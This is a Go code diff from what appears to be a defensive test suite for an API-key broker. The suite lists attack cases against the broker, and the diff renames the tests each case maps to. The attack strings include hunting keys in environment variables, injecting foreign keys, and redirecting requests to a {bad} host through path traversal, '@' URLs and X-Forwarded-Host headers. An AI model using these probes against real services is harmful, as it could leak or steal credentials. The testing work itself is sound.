@@ -65,7 +65,7 @@ func hunted() string {
 }
 
 func keyAttacks() []Attack {
-	canary := []string{"TestLabK01Canary"}
+	canary := []string{"TestLabBroker", "TestLabCanary"}
 	return []Attack{
 		{ID: "K01", Title: "the key in an environment or an open file", Try: []string{"hunt -in environ {keys}"}, Won: true, Tests: canary,
 			Elsewhere: "What an engine starts in `up` mode has the variables that the container was given. Give keys by files."},
@@ -84,15 +84,15 @@ func keyAttacks() []Attack {
 				"model -key {stranger} -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent",
 				"model -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent?key={stranger}",
 				"model -header 'X-Goog-User-Project: {stranger}' -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent"},
-			Judge: strangerArrives, Tests: []string{"TestLabK05ForeignKey"}},
+			Judge: strangerArrives, Tests: []string{"TestKeysOfOthers"}},
 		{ID: "K06", Title: "the key, sent to another host",
 			Try: []string{"model -host {bad} -body '{honest}' anthropic /v1/messages", "model -body '{honest}' anthropic //{bad}/v1/messages", "model -body '{honest}' anthropic /../../{bad}/v1/messages",
 				"model -header 'X-Forwarded-Host: {bad}' -body '{honest}' anthropic /v1/messages", "model -body '{honest}' anthropic /v1/messages@{bad}"},
-			Judge: keyAstray, Tests: []string{"TestLabK06KeyAstray"}},
+			Judge: keyAstray, Tests: []string{"TestWhoTheServerIs", "TestHeadRefuses"}},
 		{ID: "K07", Title: "the broker, asked without the agent's token",
 			Try: []string{"model -keyless -body '{honest}' anthropic /v1/messages", "model -key x -body '{honest}' anthropic /v1/messages",
 				"model -keyless -header 'Authorization: Bearer' -body '{honest}' anthropic /v1/messages", "model -keyless -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent?key="},
-			Judge: keyless, Tests: []string{"TestLabK07Token"}},
+			Judge: keyless, Tests: []string{"TestLabBroker", "TestWhoMayAsk"}},
 	}
 }
 
